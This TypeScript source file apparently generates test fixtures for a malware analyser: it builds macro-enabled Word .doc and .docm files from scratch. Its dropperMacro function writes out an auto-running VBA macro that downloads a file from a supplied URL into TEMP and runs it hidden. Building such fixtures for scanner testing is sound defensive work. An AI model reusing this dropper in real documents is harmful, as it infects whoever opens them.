/**
 * Macro-enabled Office documents for the malware samples, built from scratch: a compound file
 * (CFB/OLE2, [MS-CFB] version 3) holding a VBA project ([MS-OVBA]) whose module auto-runs
 * `Document_Open`, as a Word 97 `.doc` and inside a `.docm` (OOXML zip with `word/vbaProject.bin`).
 *
 * The macro source is inert text (it names a download URL under .example and calls nothing real);
 * what matters is the structure the analyser and every macro scanner key on.
 *
 * The compound file itself comes from cfb.ts.
 */
import { zipSync } from 'fflate';
import { buildCfb, ovbaLiteral, type CfbNode } from './cfb.ts';

/** Zip entry times: fixed, so the same seed gives byte-identical attachments. */
const ZIP_MTIME = new Date('2026-01-05T09:00:00Z');

/** The VBA storages of a project with one document module holding `source`. */
function vbaStorages(source: string): CfbNode[] {
  // Real module streams start with compiled p-code; a run of filler stands in for it.
  const module = Buffer.concat([Buffer.alloc(256, 0x42), ovbaLiteral(source)]);
  return [
    { name: 'PROJECT', data: Buffer.from('ID="{5D1A3B4E-0C2F-4E6A-9B7D-1F2E3D4C5B6A}"\r\nDocument=ThisDocument/&H00000000\r\nName="Project"\r\n', 'latin1') },
    {
      name: 'VBA',
      children: [
        { name: '_VBA_PROJECT', data: Buffer.from([0xcc, 0x61, 0xff, 0xff, 0x00, 0x00, 0x00]) },
        { name: 'dir', data: ovbaLiteral('Attribute VB_Name = "dir"') },
        { name: 'ThisDocument', data: module },
      ],
    },
  ];
}

/** The source of an auto-running macro that would fetch and start a payload (inert: nothing here runs). */
export function dropperMacro(url: string, fileName: string): string {
  return [
    'Attribute VB_Name = "ThisDocument"',
    'Attribute VB_Base = "1Normal.ThisDocument"',
    'Private Sub Document_Open()',
    '    Dim http As Object, stream As Object, target As String',
    `    target = Environ("TEMP") & "\\${fileName}"`,
    '    Set http = CreateObject("MSXML2.XMLHTTP")',
    `    http.Open "GET", "${url}", False`,
    '    http.Send',
    '    Set stream = CreateObject("ADODB.Stream")',
    '    stream.Type = 1: stream.Open: stream.Write http.responseBody',
    '    stream.SaveToFile target, 2',
    '    CreateObject("WScript.Shell").Run target, 0',
    'End Sub',
    '',
  ].join('\r\n');
}

/** A Word 97 document (`WordDocument` stream, `Macros` storage) with the macro. */
export function macroDoc(source: string): Buffer {
  return buildCfb([{ name: 'WordDocument', data: Buffer.alloc(2048, 0x20) }, { name: 'Macros', children: vbaStorages(source) }]);
}

/** A macro-enabled Word document (.docm): OOXML parts plus `word/vbaProject.bin`. */
export function macroDocm(source: string, paragraph: string): Buffer {
  const xml = (text: string) => new TextEncoder().encode(`<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n${text}`);
  const escaped = paragraph.replace(/&/g, '&amp;').replace(/</g, '&lt;');
  const files = {
    '[Content_Types].xml': xml('<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'),
    '_rels/.rels': xml('<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>'),
    'word/document.xml': xml(`<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>${escaped}</w:t></w:r></w:p></w:body></w:document>`),
    'word/_rels/document.xml.rels': xml('<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>'),
    'word/vbaProject.bin': new Uint8Array(buildCfb(vbaStorages(source))),
  };
  return Buffer.from(zipSync(files, { mtime: ZIP_MTIME }));
}

/** A zip of `entries` (name → bytes) with fixed times. */
export function zipOf(entries: Record<string, Uint8Array>): Buffer {
  return Buffer.from(zipSync(entries, { mtime: ZIP_MTIME }));
}
